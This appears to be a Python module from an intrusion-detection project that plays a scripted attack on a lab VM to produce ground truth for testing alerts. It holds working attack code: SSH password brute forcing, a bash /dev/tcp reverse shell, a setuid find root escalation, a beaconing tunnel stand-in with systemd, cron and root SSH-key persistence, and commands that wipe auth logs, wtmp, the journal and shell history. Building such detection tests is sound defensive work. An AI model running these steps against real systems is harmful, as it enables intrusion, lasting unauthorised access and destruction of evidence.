"""``vigil lab attack``: the paper's case study, played from outside a lab VM over the network.

Everything goes through the VM's forwarded SSH port and through connections the guest makes
back to listeners on the host's loopback (``10.0.2.2`` from inside, under user-mode networking),
as a remote attacker's would. Each thing done is recorded with the time it was done: the ground
truth that tests compare with Vigil's alerts.

Steps, in the order ``full`` plays them:

* ``bruteforce``: SSH password guessing for the lab user with ``wordlist.txt``, then a login;
* ``reverse-shell``: a bash reverse TCP shell to the attacker's listener, commands typed into it;
* ``privesc``: the setuid ``find`` turned into a root shell, through the reverse shell;
* ``persistence``: a remote-access tool stand-in (named ``chisel``, beaconing to the attacker)
  started, installed as a systemd unit and a cron entry, and an SSH key added for root;
* ``cover-tracks``: auth log, wtmp and the journal cleared, the user's shell history wiped.

A step that needs an earlier one (a shell needs the password) plays it first, recorded too.
"""

from __future__ import annotations

import base64
import logging
import re
import socket
import threading
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from datetime import UTC, datetime
from io import StringIO
from pathlib import Path
from typing import Any

import paramiko
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from vigil.lab import fleet
from vigil.lab.image import LAB_USER, SETUID_MISCONFIGURED, LabError, wordlist

STEPS = ("bruteforce", "reverse-shell", "privesc", "persistence", "cover-tracks")
SCENARIOS = (*STEPS, "full")
#: the rules each step must trip (the test of ``full`` checks every one arrives)
EXPECTED_RULES: dict[str, tuple[str, ...]] = {
    "bruteforce": ("ssh-password-guessing", "ssh-login-after-failures"),
    "reverse-shell": ("reverse-shell",),
    "privesc": ("privilege-escalation",),
    "persistence": ("remote-access-tool", "persistence"),
    "cover-tracks": ("log-clearing",),
}
#: other rules a step may fairly trip: the root shell of ``privesc`` inherits the reverse shell's
#: socket; the attacker's key login as root comes from the address that guessed passwords
ALSO_RAISED: dict[str, tuple[str, ...]] = {
    "privesc": ("reverse-shell",),
    "persistence": ("ssh-login-after-failures", "reverse-shell"),
}
SHELL_TIMEOUT = 60.0
BRUTEFORCE_CONNECTIONS = 4
SSH_ATTEMPTS = 4

Emit = Callable[[dict[str, Any]], None]

#: the remote-access tool stand-in: keeps a TCP connection to its "server" open, like a
#: reverse tunnel; named chisel, it is what a defender would find running
RAT_STANDIN = """#!/usr/bin/python3
# chisel stand-in (Vigil lab): holds a tunnel-like TCP connection to its server, reconnecting.
import socket, sys, time
host, _, port = sys.argv[2].rpartition(":")
while True:
    try:
        with socket.create_connection((host, int(port)), timeout=10) as s:
            s.sendall(b"chisel-standin hello\\n")
            s.settimeout(None)
            while s.recv(1024):
                pass
    except OSError:
        pass
    time.sleep(5)
"""


@dataclass
class Target:
    """Where and whom the attacker hits."""

    name: str
    ssh_host: str
    ssh_port: int
    #: the address at which the guest reaches the attacker's listeners
    callback_host: str = fleet.GUEST_HOST_ADDRESS
    #: where the attacker's listeners bind on this machine
    listen_host: str = "127.0.0.1"
    user: str = LAB_USER


class Recorder:
    """The ground truth: every action with its wall-clock time, emitted as it happens."""

    def __init__(self, emit: Emit | None = None) -> None:
        self.steps: list[dict[str, Any]] = []
        self.emit = emit
        self._lock = threading.Lock()

    def __call__(self, step: str, action: str, *, t: float | None = None,
                 **detail: Any) -> dict[str, Any]:
        """Record ``action`` of ``step``, done at ``t`` (default: now)."""
        now = time.time() if t is None else t
        entry = {"t": round(now, 3),
                 "time": datetime.fromtimestamp(now, UTC).isoformat(timespec="milliseconds"),
                 "vm": None, "step": step, "action": action, "detail": detail}
        with self._lock:
            self.steps.append(entry)
            if self.emit is not None:
                self.emit(entry)
        return entry


def describe(entry: dict[str, Any]) -> str:
    """One ground-truth entry as a line for people."""
    detail = " ".join(f"{k}={v}" for k, v in entry["detail"].items())
    return f"{entry['time'][11:23]}  {entry['vm'] or '':8} {entry['step']:13} {entry['action']:12} {detail}"


class Listener:
    """A TCP listener of the attacker's; accepts connections in the background."""

    def __init__(self, host: str) -> None:
        self.sock = socket.create_server((host, 0))
        self.port = int(self.sock.getsockname()[1])
        self.accepted: list[tuple[socket.socket, tuple[str, int]]] = []
        self._ready = threading.Condition()
        threading.Thread(target=self._accept, daemon=True, name=f"listener-{self.port}").start()

    def _accept(self) -> None:
        while True:
            try:
                conn, peer = self.sock.accept()
            except OSError:
                return
            with self._ready:
                self.accepted.append((conn, peer))
                self._ready.notify_all()

    def wait(self, count: int = 1, timeout: float = SHELL_TIMEOUT) -> tuple[socket.socket, Any]:
        with self._ready:
            if not self._ready.wait_for(lambda: len(self.accepted) >= count, timeout):
                raise LabError(f"nothing connected back to port {self.port} in {timeout:.0f} s")
            return self.accepted[count - 1]

    def close(self) -> None:
        self.sock.close()
        for conn, _ in self.accepted:
            conn.close()


class Shell:
    """Commands typed into a shell at the other end of a socket, each output read back to an
    end marker."""

    def __init__(self, conn: socket.socket) -> None:
        self.conn = conn
        self.conn.settimeout(SHELL_TIMEOUT)
        self.buffer = b""
        self.count = 0

    def send(self, line: str) -> None:
        self.conn.sendall(line.encode() + b"\n")

    def run(self, command: str, timeout: float = SHELL_TIMEOUT) -> str:
        self.count += 1
        marker = f"__vigil_lab_{self.count}__"
        # Written split in two, so that an interactive shell echoing the line back does not
        # show the marker itself: only the echo's output does.
        echo = f'echo "__vigil""_lab_{self.count}__"'
        self.send(f"{command}\n{echo}")
        end = re.compile(rb"(^|\n)" + re.escape(marker.encode()) + rb"\r?\n")
        deadline = time.monotonic() + timeout
        while (found := end.search(self.buffer)) is None:
            if time.monotonic() > deadline:
                raise LabError(f"the shell did not answer {command!r} in {timeout:.0f} s")
            chunk = self.conn.recv(65536)
            if not chunk:
                raise LabError(f"the shell closed while running {command!r}")
            self.buffer += chunk
        out, self.buffer = self.buffer[:found.start()], self.buffer[found.end():]
        return _clean(out.decode(errors="replace"), (command, echo))


def _clean(text: str, sent: tuple[str, ...]) -> str:
    """A command's output without the prompts, job-control notices and echoed input of an
    interactive shell."""
    lines = []
    for line in text.splitlines():
        if line.startswith(("bash: cannot set terminal", "bash: no job control")):
            continue
        head, sep, rest = line.partition("$ ")
        if sep and "@" in head:  # user@host:dir$ prompt
            line = rest
        head, sep, rest = line.partition("# ")
        if sep and "@" in head:  # root@host:dir# prompt
            line = rest
        if line.strip() and line.strip() not in sent:
            lines.append(line)
    return "\n".join(lines).strip()


@dataclass
class Campaign:
    """One attacker against one VM; keeps what earlier steps gained (password, shells)."""

    target: Target
    record: Recorder
    password: str | None = None
    shell: Shell | None = None
    root: bool = False
    listeners: list[Listener] = field(default_factory=list)
    done: set[str] = field(default_factory=set)

    # --- SSH ----------------------------------------------------------------------------------

    def _connect(self, *, username: str | None = None, password: str | None = None,
                 key: paramiko.PKey | None = None) -> paramiko.SSHClient:
        """An SSH connection, retried a few times when the server drops it before the banner
        (sshd's MaxStartups, a guest still starting); a wrong password is not retried."""
        for attempt in range(SSH_ATTEMPTS):
            client = paramiko.SSHClient()
            client.set_missing_host_key_policy(paramiko.AutoAddPolicy())  # noqa: S507  (attacker)
            try:
                client.connect(self.target.ssh_host, self.target.ssh_port,
                               username=username or self.target.user, password=password,
                               pkey=key, allow_agent=False, look_for_keys=False, timeout=30,
                               banner_timeout=60, auth_timeout=30)
                return client
            except paramiko.AuthenticationException:
                client.close()
                raise
            except (paramiko.SSHException, OSError, EOFError) as exc:
                client.close()
                if attempt == SSH_ATTEMPTS - 1:
                    raise LabError(f"cannot reach SSH on {self.target.ssh_host}:"
                                   f"{self.target.ssh_port}: {exc}") from exc
                time.sleep(1 + attempt)
        raise AssertionError("unreachable")

    def _try_password(self, password: str) -> bool:
        try:
            self._connect(password=password).close()
            return True
        except paramiko.AuthenticationException:
            return False

    def ssh(self, command: str, *, username: str | None = None, password: str | None = None,
            key: paramiko.PKey | None = None) -> str:
        try:
            client = self._connect(username=username, password=password, key=key)
        except paramiko.AuthenticationException as exc:
            raise LabError(f"SSH login as {username or self.target.user} refused: {exc}") from exc
        try:
            _, stdout, stderr = client.exec_command(command, timeout=SHELL_TIMEOUT)
            out = stdout.read().decode(errors="replace") + stderr.read().decode(errors="replace")
            return out.strip()
        finally:
            client.close()

    # --- steps --------------------------------------------------------------------------------

    def bruteforce(self) -> None:
        words = wordlist()
        self.record("bruteforce", "start", user=self.target.user, wordlist=len(words),
                    port=self.target.ssh_port)
        found = threading.Event()

        def guess(n: int, word: str) -> str | None:
            if found.is_set():
                return None
            ok = self._try_password(word)  # recorded when the server answered
            self.record("bruteforce", "guess", n=n, password=word,
                        result="accepted" if ok else "refused")
            if ok:
                found.set()
            return word if ok else None

        # Several connections at a time, as hydra or a botnet would guess.
        with ThreadPoolExecutor(BRUTEFORCE_CONNECTIONS) as pool:
            hits = [w for w in pool.map(guess, range(1, len(words) + 1), words) if w]
        if not hits:
            raise LabError(f"no password of the wordlist ({len(words)}) worked")
        self.password = hits[0]
        sent = time.time()
        out = self.ssh("id; uname -srm", password=self.password)
        self.record("bruteforce", "login", t=sent, user=self.target.user, output=_short(out))
        self.done.add("bruteforce")

    def login(self) -> None:
        """The password from an earlier run's guessing, or guess it now."""
        if self.password is None:
            self.bruteforce()

    def reverse_shell(self) -> None:
        self.login()
        listener = self._listen()
        payload = (f"bash -c 'exec bash -i >& /dev/tcp/{self.target.callback_host}/"
                   f"{listener.port} 0>&1'")
        sent = time.time()
        self.ssh(f"setsid nohup {payload} >/dev/null 2>&1 < /dev/null &", password=self.password)
        self.record("reverse-shell", "launch", t=sent, command=payload,
                    listener=f"{self.target.listen_host}:{listener.port}")
        conn, peer = listener.wait()
        self.shell = Shell(conn)
        self.record("reverse-shell", "connected", peer=f"{peer[0]}:{peer[1]}")
        for command in ("id", "uname -a", "ps -o pid,user,comm -u $(id -u) | head -5"):
            self.typed("reverse-shell", "typed", command)
        self.done.add("reverse-shell")

    def privesc(self) -> None:
        if self.shell is None:
            self.reverse_shell()
        assert self.shell is not None
        self.typed("privesc", "found", f"ls -l {SETUID_MISCONFIGURED}", what="setuid find")
        exploit = (f"{SETUID_MISCONFIGURED} /etc/hostname -exec /usr/bin/python3 -c "
                   "'import os; os.setresgid(0,0,0); os.setresuid(0,0,0); "
                   "os.execl(\"/bin/bash\", \"bash\")' \\; -quit")
        self.record("privesc", "exploit", command=exploit)
        self.shell.send(exploit)
        out = self.shell.run("id")
        if "uid=0(" not in out:
            raise LabError(f"the escalation did not give root: {out!r}")
        self.root = True
        self.record("privesc", "root", output=_short(out))
        self.done.add("privesc")

    def persistence(self) -> None:
        if not self.root:
            self.privesc()
        c2 = self._listen()
        tool = "/usr/local/bin/chisel"
        args = f"client {self.target.callback_host}:{c2.port} R:socks"
        encoded = base64.b64encode(RAT_STANDIN.encode()).decode()
        self.typed("persistence", "dropped", f"echo {encoded} | base64 -d > {tool} && "
                   f"chmod 755 {tool}", shown=f"base64 -d > {tool}",
                   what="remote-access tool (chisel)")
        self.typed("persistence", "started",
                   f"setsid nohup {tool} {args} >/dev/null 2>&1 < /dev/null &")
        _, peer = c2.wait()
        self.record("persistence", "beacon", peer=f"{peer[0]}:{peer[1]}")
        unit_path = "/etc/systemd/system/chisel-tunnel.service"
        unit = (f"[Unit]\\nDescription=System tunnel\\n[Service]\\nExecStart={tool} {args}\\n"
                "Restart=always\\n[Install]\\nWantedBy=multi-user.target\\n")
        self.typed("persistence", "systemd-unit", f"printf '{unit}' > {unit_path}",
                   shown=f"printf ... > {unit_path}")
        self.typed("persistence", "enabled",
                   "systemctl daemon-reload && systemctl enable chisel-tunnel.service 2>&1")
        self.typed("persistence", "cron", f"echo '*/5 * * * * root pgrep -x chisel || "
                   f"{tool} {args}' > /etc/cron.d/chisel-tunnel")
        key = Ed25519PrivateKey.generate()
        public = key.public_key().public_bytes(serialization.Encoding.OpenSSH,
                                               serialization.PublicFormat.OpenSSH).decode()
        self.typed("persistence", "authorized-key",
                   "mkdir -p -m 700 /root/.ssh && "
                   f"echo '{public} lab-attacker' >> /root/.ssh/authorized_keys && "
                   "chmod 600 /root/.ssh/authorized_keys",
                   shown="echo 'ssh-ed25519 ... lab-attacker' >> /root/.ssh/authorized_keys")
        pem = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.OpenSSH,
                                serialization.NoEncryption()).decode()
        sent = time.time()
        out = self.ssh("id -un", username="root",
                       key=paramiko.Ed25519Key.from_private_key(StringIO(pem)))
        self.record("persistence", "key-login", t=sent, user=out)
        self.done.add("persistence")

    def cover_tracks(self) -> None:
        if not self.root:
            self.privesc()
        assert self.shell is not None
        home = f"/home/{self.target.user}"
        for action, command in (
            ("auth-log", "truncate -s 0 /var/log/auth.log"),
            ("wtmp", ": > /var/log/wtmp"),
            ("journal", "journalctl --rotate && journalctl --vacuum-time=1s 2>&1 | tail -1"),
            ("history", f"rm -f {home}/.bash_history && ln -s /dev/null {home}/.bash_history"),
        ):
            self.typed("cover-tracks", action, command)
        self.done.add("cover-tracks")

    # --- plumbing -----------------------------------------------------------------------------

    def typed(self, step: str, action: str, command: str, *, shown: str | None = None,
              **detail: Any) -> str:
        """Type ``command`` into the shell and record it (as ``shown``, when the command itself
        is too long to read), timed from when it was sent."""
        assert self.shell is not None
        sent = time.time()
        out = self.shell.run(command)
        self.record(step, action, t=sent, command=shown or command, output=_short(out), **detail)
        return out

    def _listen(self) -> Listener:
        listener = Listener(self.target.listen_host)
        self.listeners.append(listener)
        return listener

    def close(self) -> None:
        """Leave: close the shells (the guest's shell processes end) and the listeners; what the
        attacker installed stays, as it would."""
        if self.shell is not None:
            for _ in range(2 if self.root else 1):
                try:
                    self.shell.send("exit")
                except OSError:
                    break
            time.sleep(0.5)
        for listener in self.listeners:
            listener.close()


def _short(text: str, limit: int = 160) -> str:
    one = " | ".join(line.strip() for line in text.splitlines() if line.strip())
    return one if len(one) <= limit else one[:limit - 3] + "..."


def play(campaign: Campaign, scenario: str) -> None:
    """Play ``scenario`` (a step, or ``full``)."""
    steps = STEPS if scenario == "full" else (scenario,)
    actions = {"bruteforce": campaign.bruteforce, "reverse-shell": campaign.reverse_shell,
               "privesc": campaign.privesc, "persistence": campaign.persistence,
               "cover-tracks": campaign.cover_tracks}
    for step in steps:
        if step not in actions:
            raise LabError(f"unknown scenario {scenario!r}: one of {', '.join(SCENARIOS)}")
        actions[step]()


def run_scenario(scenario: str, *, vm: str, directory: Path | None = None,
                 emit: Emit | None = None) -> list[dict[str, Any]]:
    """Attack the lab VM ``vm`` as ``scenario`` says; returns the ground truth."""
    directory = fleet.run_dir(directory)
    state = fleet.LabState.load(directory)
    if state is None:
        raise LabError("the lab is not up: `vigil lab up` first")
    lab_vm = state.vm(vm)

    def tagged(entry: dict[str, Any]) -> None:
        entry["vm"] = vm
        if emit is not None:
            emit(entry)

    logging.getLogger("paramiko").setLevel(logging.CRITICAL)  # its errors become LabErrors
    record = Recorder(tagged)
    campaign = Campaign(Target(vm, "127.0.0.1", lab_vm.ssh_port), record,
                        password=state.loot.get(vm, {}).get("password"))
    try:
        play(campaign, scenario)
    finally:
        campaign.close()
        if campaign.password:
            state = fleet.LabState.load(directory) or state
            state.loot[vm] = {"user": campaign.target.user, "password": campaign.password}
            state.save(directory)
    return record.steps
